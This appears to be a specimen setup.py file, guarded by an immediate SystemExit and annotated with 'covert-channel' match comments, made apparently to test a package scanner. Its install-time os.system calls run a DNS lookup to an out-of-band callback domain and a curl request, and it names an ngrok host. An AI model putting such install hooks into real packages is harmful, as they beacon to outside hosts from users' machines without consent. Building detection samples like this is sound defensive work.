raise SystemExit("specimen: not to be run")
import os
from setuptools import setup
os.system("nslookup x.specimen.oast.fun")  # match: covert-channel
HOST = "http://specimen.ngrok-free.app"  # match: covert-channel
os.system("curl https://example.com/")
setup(name="specimen")
